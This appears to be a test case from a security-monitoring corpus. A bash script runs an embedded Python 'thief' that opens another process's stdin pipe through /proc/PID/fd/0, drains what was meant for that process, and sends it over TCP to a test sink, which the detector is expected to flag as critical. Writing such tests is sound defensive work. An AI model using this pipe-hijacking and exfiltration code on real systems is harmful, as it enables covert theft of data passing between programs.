#!/bin/bash
# B-stolen-pipe: a pipe between two programs is opened by a third through /proc, which takes out what was meant for the other.
# flow: cat, pipe, a reader that never reads; open of /proc/PID/fd/0 makes a reading end of its own; read and send.
# tools: python3 cat
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
bg bash -c 'cat "$0" | { echo $BASHPID >reader.new; mv reader.new reader; exec sleep 15; }' "$D"
until_true [ -s reader ]
sleep .5
python3 - "$(cat reader)" "$SINK" "$PORT" <<'CODE' || fail "the thief"
import os, socket, sys
sink = socket.create_connection((sys.argv[2], int(sys.argv[3])))
taken = os.open(f"/proc/{sys.argv[1]}/fd/0", os.O_RDONLY)
while part := os.read(taken, 50000):
    sink.sendall(part)
CODE
kill "$(cat reader)"
sunk "$(stat -c %s "$D")"
